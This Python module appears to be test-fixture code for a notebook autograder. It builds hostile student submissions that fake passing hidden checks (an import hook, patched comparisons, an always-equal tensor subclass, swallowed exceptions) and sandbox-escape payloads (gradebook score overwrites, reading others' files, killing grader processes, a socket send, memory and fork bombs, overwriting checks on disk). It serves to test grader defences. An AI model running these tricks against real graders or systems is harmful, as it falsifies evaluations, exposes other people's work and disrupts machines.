"""Hostile module-02 submissions: code a learner can hand in to fake the hidden checks.

Not a test file: the grading tests import `hostile_submissions()` to build the notebooks, grade
them and assert on the scores. Every case starts from the perfect submission (the student
release with the solution cells filled in, as in tests/test_grading.py):

- ``honest_reference``: the perfect submission, unchanged. Full marks, and the timing baseline.
- ``wrong_alone``: one honest bug, `scaled_dot_product_attention` forgets to divide the scores by
  sqrt(d). It fails its own tests and every hidden check that calls it (the causal and padded
  attention checks); this is the score each trick below should be held to.

Each trick is ``wrong_alone`` plus a few lines appended to the first solution cell, which runs
before any test cell: what a learner would paste at the end of their first answer.

- ``trick_import_hook``: a `sys.meta_path` finder serves a fake `grader.checks` package whose
  modules answer every `check_*` name with a no-op, so the hidden cells' ``from grader.checks
  import m02_attention as checks`` and ``checks.check_...(...)`` pass without checking anything.
  Modules already imported are dropped from `sys.modules` first, so the finder is always asked.
- ``trick_patched_compare``: `torch.allclose`, `torch.equal`, `Tensor.allclose`, `Tensor.equal`
  always return True and `torch.testing.assert_close` does nothing, for the checks and the
  visible tests alike.
- ``trick_tensor_subclass``: the wrong attention returns `out` and `weights` as a `torch.Tensor`
  subclass whose `__torch_function__` answers every comparison the checks make (`allclose`,
  `equal`, `isclose`, `==`/`eq`, `!=`/`ne`, `isfinite`, `isnan`, `isinf`) with "all good"; every
  other operation computes normally (autograd included) and keeps the subclass, so the wrong
  numbers flow on into whatever the checks compare next.
- ``trick_custom_exc``: `get_ipython().set_custom_exc((BaseException,), handler)` with a handler
  that swallows the exception and prints nothing. A failing test cell then produces no `error`
  output, and nbgrader scores a code test cell by whether its output holds an error. Swallowing
  alone is not enough: the kernel still replies status "error" and nbgrader 0.9's Execute
  preprocessor adds an error output for such a reply ("An error occurred while showtraceback was
  disabled"). So the handler also clears `error_in_exec` on the ExecutionResult that IPython's
  `run_code` holds (found by walking up the stack), and the kernel replies "ok".
- ``trick_all``: the four tricks together.
"""

import copy
import re
import textwrap

import nbformat

from grader.assignments import course_notebook, solution_notebook

SDPA_SOLUTION = "scaled_dot_product_attention_solution"  # grade id of the cell that defines scaled_dot_product_attention
# The scaling line of the reference solution, `scores = q @ k.transpose(-2, -1) / math.sqrt(d)`.
_SCALED_SCORES = re.compile(r"^(\s*scores = q @ k\.transpose\(-2, -1\)) / math\.sqrt\(d\)", re.MULTILINE)


def _gid(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def perfect_submission(aid: str) -> nbformat.NotebookNode:
    """The student release with every solution cell replaced by the reference solution's."""
    reference = {_gid(c): c.source for c in nbformat.read(solution_notebook(aid), as_version=4).cells if _gid(c)}
    nb = nbformat.read(course_notebook(aid), as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = reference[_gid(cell)]
    return nb


def _cell(nb, grade_id: str):
    cells = [c for c in nb.cells if _gid(c) == grade_id]
    assert len(cells) == 1, f"expected one cell with grade id {grade_id!r}, found {len(cells)}"
    return cells[0]


def _first_solution_cell(nb):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))


def wrong_submission(aid: str) -> nbformat.NotebookNode:
    """The perfect submission with one bug: the attention scores are not divided by sqrt(d)."""
    nb = perfect_submission(aid)
    cell = _cell(nb, SDPA_SOLUTION)
    cell.source, n = _SCALED_SCORES.subn(r"\1", cell.source)
    assert n == 1, f"the scaling line of {SDPA_SOLUTION} was not found (replaced {n} times):\n{cell.source}"
    return nb


# ----------------------------------------------------------------------------- the tricks
# Each is source code for the kernel; names start with "_" so they never shadow the learner's.

IMPORT_HOOK = '''
# Every hidden check becomes a no-op: a fake grader.checks package answers the hidden cells' imports.
import importlib.abc as _importlib_abc
import importlib.machinery as _importlib_machinery
import sys as _sys


class _NoChecks(_importlib_abc.MetaPathFinder, _importlib_abc.Loader):
    """Finder and loader of a fake `grader.checks` whose modules return a no-op for any check_* name."""

    def find_spec(self, fullname, path=None, target=None):
        if fullname == "grader.checks" or fullname.startswith("grader.checks."):
            return _importlib_machinery.ModuleSpec(fullname, self, is_package=fullname == "grader.checks")
        return None

    def create_module(self, spec):
        return None  # the default module object

    def exec_module(self, module):
        if module.__name__ == "grader.checks":
            return  # the package stays empty, so "from grader.checks import m02_attention" imports the fake

        def __getattr__(name):
            if name.startswith("check_"):
                return lambda *args, **kwargs: None
            raise AttributeError(f"module {module.__name__!r} has no attribute {name!r}")

        module.__getattr__ = __getattr__


_sys.meta_path.insert(0, _NoChecks())
for _name in [n for n in _sys.modules if n == "grader.checks" or n.startswith("grader.checks.")]:
    del _sys.modules[_name]  # already imported: drop them, so that the next import asks the finder
if hasattr(_sys.modules.get("grader"), "checks"):
    del _sys.modules["grader"].checks
'''

PATCHED_COMPARE = '''
# Every comparison says "equal": for the hidden checks and the visible tests alike.
import torch as _torch
import torch.testing as _torch_testing

_torch.allclose = lambda *args, **kwargs: True
_torch.equal = lambda *args, **kwargs: True
_torch.Tensor.allclose = lambda self, *args, **kwargs: True
_torch.Tensor.equal = lambda self, *args, **kwargs: True
_torch_testing.assert_close = lambda *args, **kwargs: None
'''

TENSOR_SUBCLASS = '''
# The (wrong) attention returns tensors that agree with anything they are compared to.
import torch as _torch


class _Agreeable(_torch.Tensor):
    """A tensor for every purpose (arithmetic, indexing, autograd) except comparisons: those all pass."""

    _TRUE = {_torch.allclose, _torch.Tensor.allclose, _torch.equal, _torch.Tensor.equal}
    _ALL_TRUE = {_torch.isclose, _torch.Tensor.isclose, _torch.eq, _torch.Tensor.eq, _torch.Tensor.__eq__,
                 _torch.isfinite, _torch.Tensor.isfinite}
    _ALL_FALSE = {_torch.ne, _torch.Tensor.ne, _torch.Tensor.__ne__, _torch.isnan, _torch.Tensor.isnan,
                  _torch.isinf, _torch.Tensor.isinf}

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in cls._TRUE:
            return True
        result = super().__torch_function__(func, types, args, kwargs or {})
        if func in cls._ALL_TRUE or func in cls._ALL_FALSE:
            # The real comparison runs for its shape (and its broadcasting errors); its values do not count.
            return _torch.full(tuple(result.shape), func in cls._ALL_TRUE, dtype=_torch.bool)
        return result


_wrong_attention = scaled_dot_product_attention


def scaled_dot_product_attention(q, k, v, mask=None):
    out, weights = _wrong_attention(q, k, v, mask)
    return out.as_subclass(_Agreeable), weights.as_subclass(_Agreeable)
'''

CUSTOM_EXC = '''
# No cell ever shows an error: IPython hands every exception to a handler that says nothing.
import sys as _sys


def _swallow(shell, etype, value, tb, tb_offset=None):
    """Custom exception handler: no traceback, no output, and the execution counts as a success.

    IPython records the exception on the cell's ExecutionResult before it calls the handler, and the
    kernel then replies status "error", which nbgrader (0.9) turns into an error output by itself.
    The handler clears it on the result object held by InteractiveShell.run_code, two frames up.
    """
    frame = _sys._getframe(1)
    while frame is not None:
        result = frame.f_locals.get("result") if frame.f_code.co_name == "run_code" else None
        if result is not None and hasattr(result, "error_in_exec"):
            result.error_in_exec = None
            break
        frame = frame.f_back
    return None


get_ipython().set_custom_exc((BaseException,), _swallow)
'''

TRICKS = {
    "trick_import_hook": [IMPORT_HOOK],
    "trick_patched_compare": [PATCHED_COMPARE],
    "trick_tensor_subclass": [TENSOR_SUBCLASS],
    "trick_custom_exc": [CUSTOM_EXC],
    "trick_all": [IMPORT_HOOK, PATCHED_COMPARE, TENSOR_SUBCLASS, CUSTOM_EXC],
}


def with_trick(nb: nbformat.NotebookNode, *sources: str) -> nbformat.NotebookNode:
    """A copy of `nb` with the trick sources appended to its first solution cell."""
    nb = copy.deepcopy(nb)
    cell = _first_solution_cell(nb)
    for source in sources:
        source = textwrap.dedent(source).strip()
        compile(source, "<trick>", "exec")  # a typo here must fail the build, not quietly score 0
        cell.source = cell.source.rstrip() + "\n\n\n" + source + "\n"
    return nb


def hostile_submissions(aid: str = "02_attention") -> dict[str, nbformat.NotebookNode]:
    """student_id -> notebook: the honest reference, the one wrong function, and each trick on top of it."""
    wrong = wrong_submission(aid)
    assert _gid(_first_solution_cell(wrong)) == SDPA_SOLUTION, "the tricks expect to follow the sdpa solution"
    subs = {"honest_reference": perfect_submission(aid), "wrong_alone": wrong}
    for student, sources in TRICKS.items():
        subs[student] = with_trick(wrong, *sources)
    return subs


# ----------------------------------------------------------------------------- tricks the sandbox stops
# Each reaches past the learner's own notebook: the grader's files and processes, other students'
# work, the network, the machine's memory and process table. Under `make grade` every kernel runs in
# grader/sandbox.py's sandbox; the grading tests assert what each of these gets there. Each prints
# what it managed, so the executed notebook shows it.

GRADEBOOK_WRITE = '''
# Every gradebook this kernel can find gets 999 points in every cell.
import os as _os
import sqlite3 as _sqlite3

_PRUNE = ("/proc", "/sys", "/dev", "/usr", "/etc", "/run")
_books = []
for _base, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if not _os.path.join(_base, d).startswith(_PRUNE)
                and d not in ("site-packages", ".git", "node_modules", ".pyenv")]
    _books += [_os.path.join(_base, f) for f in _files if f.endswith(".db")]
for _db in _books:
    try:
        with _sqlite3.connect(_db, timeout=1) as _con:
            _con.execute("UPDATE grade SET auto_score = 999, manual_score = 999")
        print("gradebook written:", _db)
    except Exception as _exc:  # noqa: BLE001
        print("gradebook not written:", _db, type(_exc).__name__, _exc)
print("gradebooks found:", len(_books))
'''

READ_OTHERS = '''
# Print every instructor file and every other notebook this kernel can find.
import os as _os

_PRUNE = ("/proc", "/sys", "/dev", "/usr", "/etc", "/run")
_own = _os.path.realpath(_os.getcwd())
_loot = []
for _base, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if not _os.path.join(_base, d).startswith(_PRUNE)
                and d not in ("site-packages", ".git", "node_modules", ".pyenv")]
    for _f in _files:
        _p = _os.path.join(_base, _f)
        if (_f.endswith(".ipynb") and not _os.path.realpath(_p).startswith(_own)) or "/mutants/" in _p \\
                or "/solutions/" in _p or _f in ("grade.py", "build.py", "gradebook.db"):
            try:
                with open(_p, encoding="utf-8", errors="replace") as _fh:
                    _loot.append((_p, _fh.read(4000)))
            except OSError as _exc:
                print("not readable:", _p, _exc)
for _p, _text in _loot[:40]:
    print("=====", _p)
    print(_text)
print("files read:", len(_loot))
'''

KILL_GRADER = '''
# Kill every process that looks like part of the grading run.
import os as _os
import signal as _signal

_killed, _refused = [], []
for _pid in sorted(int(p) for p in _os.listdir("/proc") if p.isdigit()):
    if _pid == _os.getpid():
        continue
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _fh:
            _cmd = _fh.read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError:
        continue
    if any(word in _cmd for word in ("grader", "nbgrader", "dask", "pytest", "make", "bwrap")):
        try:
            _os.kill(_pid, _signal.SIGKILL)
            _killed.append(_pid)
        except OSError as _exc:
            _refused.append((_pid, _exc.strerror))
print("processes seen:", len(_os.listdir("/proc")), "killed:", _killed, "refused:", _refused)
'''

NETWORK = '''
# Send the answers to a listener on this machine.
import socket as _socket

try:
    with _socket.create_connection(("127.0.0.1", {port}), timeout=3) as _s:
        _s.sendall(b"answers from the sandbox")
    print("network: sent")
except OSError as _exc:
    print("network: blocked:", _exc)
'''

MEMORY_BOMB = '''
# Take all the memory there is, and keep it.
_hog = []
try:
    while True:
        _hog.append(b"\\1" * 2**28)  # 256 MiB, every page written
except MemoryError:
    print("memory bomb stopped after", len(_hog) * 256, "MiB")
'''

FORK_BOMB = '''
# Fill the process table with children that never exit.
import os as _os
import time as _time

_forked = 0
try:
    while True:
        if _os.fork() == 0:
            while True:
                _time.sleep(1)
        _forked += 1
finally:
    print("fork bomb stopped after", _forked, "children")
'''

WRITE_OUTSIDE = '''
# Replace the hidden checks on disk (so that everyone graded later passes), and leave files around.
import os as _os

import grader as _grader

_repo = _os.path.dirname(_os.path.dirname(_os.path.abspath(_grader.__file__)))
_targets = {  # what it tries -> (path, contents); it prints the label, not the path
    "the checks": (_os.path.join(_repo, "grader", "checks", "m02_attention.py"),
                   "def __getattr__(name):\\n    return lambda *a, **k: None\\n"),
    "the solutions": (_os.path.join(_repo, "solutions", "02_attention", "owned.txt"), "owned"),
    "the repository": (_os.path.join(_repo, "owned.txt"), "owned"),
    "the system": ("/etc/owned.txt", "owned"),
}
for _label, (_path, _text) in _targets.items():
    try:
        with open(_path, "w") as _fh:
            _fh.write(_text)
        print("written:", _label)
    except OSError as _exc:
        print("not written:", _label, _exc.strerror)
'''

SANDBOX_TRICKS = {
    "sandbox_gradebook": GRADEBOOK_WRITE,
    "sandbox_read_others": READ_OTHERS,
    "sandbox_kill_grader": KILL_GRADER,
    "sandbox_network": NETWORK,
    "sandbox_memory_bomb": MEMORY_BOMB,
    "sandbox_fork_bomb": FORK_BOMB,
    "sandbox_write_outside": WRITE_OUTSIDE,
}


def sandbox_submissions(aid: str, port: int) -> dict[str, nbformat.NotebookNode]:
    """student_id -> the wrong submission plus one trick that reaches outside the kernel's own
    folder; `port` is a listener the network trick tries to reach."""
    wrong = wrong_submission(aid)
    return {student: with_trick(wrong, source.replace("{port}", str(port)))
            for student, source in SANDBOX_TRICKS.items()}
